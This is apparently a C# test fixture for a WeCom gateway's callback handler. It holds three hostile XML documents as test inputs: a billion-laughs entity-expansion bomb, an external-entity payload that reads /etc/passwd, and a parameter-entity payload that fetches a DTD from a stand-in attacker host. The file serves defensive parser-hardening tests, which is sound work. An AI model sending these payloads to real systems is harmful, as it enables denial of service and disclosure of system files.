namespace WeComGateway.Callbacks.Tests;

/// <summary>Documents that try to make an XML parser expand entities or read files.</summary>
internal static class HostileXml
{
    public const string BillionLaughs = """
        <?xml version="1.0"?>
        <!DOCTYPE lolz [
          <!ENTITY lol "lol">
          <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
          <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
          <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
        ]>
        <xml><ToUserName>&lol4;</ToUserName><Encrypt>&lol4;</Encrypt><InfoType>&lol4;</InfoType></xml>
        """;

    public const string ExternalEntity = """
        <?xml version="1.0"?>
        <!DOCTYPE xml [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
        <xml><ToUserName>&xxe;</ToUserName><Encrypt>&xxe;</Encrypt><InfoType>&xxe;</InfoType></xml>
        """;

    public const string ParameterEntity = """
        <!DOCTYPE xml [ <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote; ]>
        <xml><Encrypt>abc</Encrypt><InfoType>suite_ticket</InfoType></xml>
        """;

    public static TheoryData<string> All() => new() { BillionLaughs, ExternalEntity, ParameterEntity };
}
